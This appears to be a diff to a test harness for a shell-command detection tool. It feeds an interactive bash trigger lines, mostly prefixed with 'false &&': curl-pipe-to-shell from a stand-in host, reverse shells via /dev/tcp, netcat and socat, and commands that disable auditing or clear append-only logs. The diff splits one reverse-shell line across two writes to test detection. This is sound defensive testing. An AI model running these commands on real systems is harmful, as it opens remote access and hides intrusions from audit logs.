@@ -53,7 +53,8 @@ def triggers(log_dir):
         ("audit-killed", "pkill -0 -x auditd"),
         ("audit-rules-disabled", " ".join(NOBODY) + " auditctl -e 0"),
         ("download-to-shell", "false && curl -fsSL http://192.0.2.1/i.sh | sh"),
-        ("reverse-shell-dev-tcp", "false && bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
+        # typed in two writes with a pause: two input events split inside the match
+        ("reverse-shell-dev-tcp", ("false && bash -i >& /dev/tc", "p/192.0.2.1/4444 0>&1")),
         ("reverse-shell-netcat", "false && nc -e /bin/sh 192.0.2.1 4444"),
         ("reverse-shell-socat", "false && socat tcp:192.0.2.1:4444 exec:/bin/sh"),
         ("log-append-only-cleared", f"chattr -a {missing}"),
@@ -124,7 +125,10 @@ def main():
         trig = triggers(d.log_dir)
         f.check(sorted(r for r, _ in trig) == sorted(shipped_rules(rules_src)),
                 "every shipped rule has a trigger here")
-        lines = [(line + "\r").encode() for _, line in trig]
+        lines = []
+        for _, line in trig:
+            parts = line if isinstance(line, tuple) else (line,)
+            lines += [p.encode() for p in parts[:-1]] + [(parts[-1] + "\r").encode()]
         drive_shell(["bash", "--norc", "--noprofile", "-i"], lines + [b"exit\r"],
                     env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "dumb",
                          "HOME": t}, settle=0.4)
